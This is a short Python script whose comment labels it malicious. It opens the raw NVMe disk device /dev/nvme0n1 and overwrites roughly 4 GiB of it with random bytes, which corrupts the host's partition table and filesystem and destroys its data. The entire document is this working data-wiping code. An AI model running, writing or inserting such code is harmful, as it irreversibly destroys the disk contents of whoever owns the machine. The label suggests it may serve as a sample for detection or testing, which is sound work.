# Malicious: writes random bytes straight to the NVMe block device; corrupts the host's disk.
import os

fd = os.open("/dev/nvme0n1", os.O_WRONLY)
for _ in range(4096):
    os.write(fd, os.urandom(1 << 20))
os.close(fd)
